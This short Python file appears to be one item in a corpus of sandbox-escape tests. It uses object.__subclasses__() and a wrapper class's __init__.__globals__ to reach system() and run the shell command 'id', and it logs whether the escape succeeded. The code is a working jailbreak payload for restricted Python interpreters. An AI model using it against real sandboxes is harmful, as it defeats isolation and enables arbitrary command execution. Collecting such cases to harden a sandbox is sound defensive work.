# corpus: escape
# technique: subclasses wrap close
results = []
try:
    [c for c in object.__subclasses__() if 'wrap' in c.__name__][0].__init__.__globals__['system']('id')
    print('ESCAPED step 0')
except Exception as e:
    results.append(type(e).__name__)
print(results)
